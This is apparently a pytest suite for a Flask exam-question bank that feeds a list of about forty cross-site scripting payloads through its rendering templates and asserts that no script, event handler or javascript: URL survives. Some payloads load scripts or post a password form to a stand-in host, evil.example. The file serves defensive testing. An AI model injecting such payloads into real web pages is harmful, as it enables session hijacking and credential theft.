"""XSS corpus (docs/security.md §24): trainer text in stems, options, explanations, reference answers and blanks
goes through the registry and the candidate partial; what comes out has no script, no event handler,
no javascript: URL and none of the tags that change the page (iframe, base, meta, form, style …).

The output is parsed with html.parser, so attribute checks see decoded values as a browser would.
A payload that the sanitizer neutralises may still appear as escaped text (`[x](javascript:alert(1))`
stays literal Markdown text); that is harmless and checked for by looking at tags and attributes."""

from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path

import pytest
from flask import render_template_string
from jinja2 import ChoiceLoader, FileSystemLoader, TemplateNotFound

from app.banks.drafts import QuestionType
from app.banks.models import QuestionVersion
from app.banks.registry import kind_of

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    '<img src="jav&#x09;ascript:alert(1)">',
    "<img src=`javascript:alert(1)`>",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "![x](javascript:alert(1))",
    '![x](x" onerror="alert(1))',
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<div style="width: expression(alert(1))">x</div>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<form action="https://evil.example/"><input name="password"><button formaction="javascript:alert(1)">go</button></form>',
    "<details open ontoggle=alert(1)>",
    '<input autofocus onfocus="alert(1)">',
    '<textarea></textarea><script>alert(1)</script>',
    "</textarea><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<td background=javascript:alert(1)>",
]

FORBIDDEN_TAGS = {"script", "iframe", "frame", "object", "embed", "base", "meta", "link", "form", "style",
                  "svg", "math", "body", "details", "button", "a"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "srcdoc", "background", "poster", "xlink:href"}


class Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


def dangers(html: str) -> list[str]:
    """Everything in `html` a browser could execute or that changes the page."""
    found = []
    if "<script" in html.lower():
        found.append("<script")
    collector = Collector()
    collector.feed(html)
    collector.close()
    for tag, attrs in collector.tags:
        if tag in FORBIDDEN_TAGS:
            found.append(f"<{tag}>")
        for name, value in attrs:
            compact = "".join((value or "").split()).lower()
            if name.startswith("on"):
                found.append(f"<{tag} {name}>")
            if name == "style":
                found.append(f"<{tag} style>")
            if name in URL_ATTRIBUTES and ("javascript:" in compact or "vbscript:" in compact):
                found.append(f"<{tag} {name}={value}>")
            if name in URL_ATTRIBUTES - {"src"} and compact.startswith("data:"):
                found.append(f"<{tag} {name}={value}>")
            if tag == "input" and name == "type" and value not in ("radio", "checkbox", "text"):
                found.append(f"<input type={value}>")
    return found


def test_the_checker_finds_what_it_should():
    assert dangers('<p onclick="x">') and dangers('<img src=" java\tscript:x">') and dangers("<base href=x>")
    assert not dangers("<p>=1+1 <strong>ok</strong></p>")


def versions_with(payload: str) -> list[QuestionVersion]:
    def v(type, **fields):
        return QuestionVersion(type=type, difficulty=3, source="xss", points=Decimal(2), explanation=payload,
                               **fields)

    return [
        v("single", stem=payload, options=[payload, f"B {payload}", "C"], key={"correct": [0]}),
        v("multiple", stem=f"前文 {payload} 后文", options=["A", payload, f"**{payload}**"], key={"correct": [0, 1]}),
        v("true_false", stem=payload, options=[], key={"truth": True}),
        v("fill_blank", stem=f"{payload} ____ {payload}", options=[], key={"blanks": [[payload]]}),
        v("short_answer", stem=payload, options=[], key={"reference": payload}),
    ]


@pytest.fixture
def render(app):
    try:
        app.jinja_env.get_template("banks/_question.html")
    except TemplateNotFound:
        folder = Path(app.root_path) / "banks" / "templates"
        app.jinja_env.loader = ChoiceLoader([app.jinja_env.loader, FileSystemLoader(folder)])

    def _render(view, answer=None) -> str:
        with app.test_request_context("/"):
            return render_template_string(
                '{% from "banks/_question.html" import question %}{{ question(view, "q1", answer=answer) }}',
                view=view, answer=answer)

    return _render


def review_html(version) -> str:
    review = kind_of(version.type).present_review(version, None, None)
    parts = [review.question.stem_html, review.explanation_html, review.reference_html or ""]
    parts += [option.html for option in review.options]
    return "\n".join(str(part) for part in parts)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_harmless_in_the_candidate_partial(render, payload):
    for version in versions_with(payload):
        html = render(kind_of(version.type).present(version))
        assert dangers(html) == [], (version.type, html)
        assert "xss" not in html  # the source field is never shown


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_harmless_in_the_review_view(payload):
    for version in versions_with(payload):
        html = review_html(version)
        assert dangers(html) == [], (version.type, html)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_as_a_saved_answer_is_escaped(render, payload):
    """What a candidate typed comes back into the inputs escaped, never as markup."""
    for version in versions_with("题干 ____"):
        answer = {"fill_blank": [payload], "short_answer": payload}.get(version.type)
        html = render(kind_of(version.type).present(version), answer=answer)
        assert dangers(html) == [], (version.type, html)


def test_formula_like_text_stays_literal(render):
    for version in versions_with("=1+1"):
        html = render(kind_of(version.type).present(version))
        assert "=1+1" in html
    assert "@SUM(A1)" in render(kind_of("single").present(versions_with("@SUM(A1)")[0]))


def test_html_special_characters_in_text_are_escaped_not_dropped(render):
    version = versions_with("车速 < 30 & 车距 > 50")[0]
    html = render(kind_of(version.type).present(version))
    assert "车速 &lt; 30 &amp; 车距 &gt; 50" in html


@pytest.mark.parametrize("source", ["//evil.example/x.png", "/\\evil.example/x.png", "https://evil.example/x.png"])
def test_an_image_from_another_host_loses_its_source(source):
    from app.core.markdown import render_markdown

    assert "evil" not in str(render_markdown(f'<img src="{source}" alt="x">'))
    assert 'src="/images/1"' in str(render_markdown('<img src="/images/1" alt="x">'))


def test_only_image_data_urls_are_allowed_in_img():
    """rendering.URL_SCHEMES allows any data: URL; in <img> a data:text/html URL is not executed, but it
    should be narrowed to data:image/… (noted for app/core/markdown.py)."""
    version = versions_with('<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">')[0]
    collector = Collector()
    collector.feed(str(kind_of(version.type).present(version).stem_html))
    sources = [value for tag, attrs in collector.tags for name, value in attrs if name == "src"]
    if any(not (value or "").startswith("data:image/") for value in sources if (value or "").startswith("data:")):
        pytest.xfail("data:text/html kept in <img src>: harmless in an image, to be narrowed in rendering.py")


def test_question_types_are_all_covered():
    assert {v.type for v in versions_with("x")} == {t.value for t in QuestionType}
